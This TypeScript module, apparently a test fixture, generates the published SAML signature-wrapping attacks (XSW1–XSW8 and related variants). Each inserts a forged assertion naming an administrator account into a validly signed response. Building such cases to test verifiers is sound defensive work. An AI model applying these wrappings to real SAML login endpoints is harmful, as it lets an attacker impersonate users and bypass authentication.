/**
 * The shapes of signature wrapping that were published (Somorovsky et al., "On Breaking SAML", USENIX Security 2012), made
 * of a response whose assertion is signed. In each the signature still verifies, and somebody else is named besides.
 */
export const WRAPPINGS: Readonly<Record<string, (xml: string) => string>> = {
  "XSW1: the signed response inside the signature of a forged one": (xml) =>
    forgedResponse(xml).replace("</Signature>", `<Object>${xml}</Object></Signature>`),
  "XSW2: the signed response in front of the signature of a forged one": (xml) =>
    forgedResponse(xml).replace("<Signature ", () => `${xml}<Signature `),
  "XSW3: a forged assertion in front of the signed one": (xml) =>
    xml.replace("<saml:Assertion ", () => `${forged(xml)}<saml:Assertion `),
  "XSW4: the signed assertion inside the forged one": (xml) =>
    xml.replace(assertionOf(xml), () =>
      forged(xml).replace("</saml:Assertion>", () => `${assertionOf(xml)}</saml:Assertion>`),
    ),
  "XSW5: the signature on the forged assertion, the signed one behind it": (xml) =>
    xml.replace(assertionOf(xml), () => signed(forged(xml), xml) + bare(xml)),
  "XSW6: the signature on the forged assertion, the signed one inside the signature": (xml) =>
    xml.replace(assertionOf(xml), () => signed(forged(xml), xml, `<Object>${bare(xml)}</Object>`)),
  "XSW7: a forged assertion among extensions": (xml) =>
    xml.replace("<saml:Assertion ", () => `<samlp:Extensions>${forged(xml)}</samlp:Extensions><saml:Assertion `),
  "XSW8: the signed assertion as an object of the forged one's signature": (xml) =>
    xml.replace(assertionOf(xml), () =>
      signed(forged(xml), xml).replace("</Signature>", () => `<Object>${bare(xml)}</Object></Signature>`),
    ),
  "a forged assertion of the same id": (xml) =>
    xml.replace("<saml:Assertion ", () => `${forged(xml, idOf(xml))}<saml:Assertion `),
  "a forged assertion in another namespace": (xml) =>
    xml.replace(
      "<saml:Assertion ",
      () => `${forged(xml).replaceAll("saml:", "x:").replaceAll("xmlns:x", "xmlns:x")}<saml:Assertion `,
    ),
  "the signature on the response's issuer, the assertion forged": (xml) =>
    xml
      .replace(assertionOf(xml), () => forged(xml))
      .replace("</saml:Issuer><samlp:Status>", () => `${signatureOf(xml)}</saml:Issuer><samlp:Status>`),
};

export const VICTIM = "admin@example.org";

export function assertionOf(xml: string): string {
  return /<saml:Assertion .*<\/saml:Assertion>/s.exec(xml)![0];
}

export function signatureOf(xml: string): string {
  return /<Signature .*?<\/Signature>/s.exec(xml)![0];
}

function bare(xml: string): string {
  return assertionOf(xml).replace(signatureOf(xml), "");
}

/** Names the victim. */
function forged(xml: string, id = "_forged"): string {
  return bare(xml)
    .replace(/ ID="[^"]+"/, ` ID="${id}"`)
    .replace(/(<saml:NameID[^>]*>)[^<]+/, `$1${VICTIM}`);
}

function signed(assertion: string, xml: string, more = ""): string {
  const signature = signatureOf(xml).replace("</Signature>", () => `${more}</Signature>`);
  return assertion.replace("</saml:Issuer>", () => `</saml:Issuer>${signature}`);
}

function forgedResponse(xml: string): string {
  return xml.replace(/ ID="[^"]+"/, ' ID="_outer"').replace(assertionOf(xml), () => signed(forged(xml), xml));
}

function idOf(xml: string): string {
  return / ID="([^"]+)"/.exec(assertionOf(xml))![1]!;
}
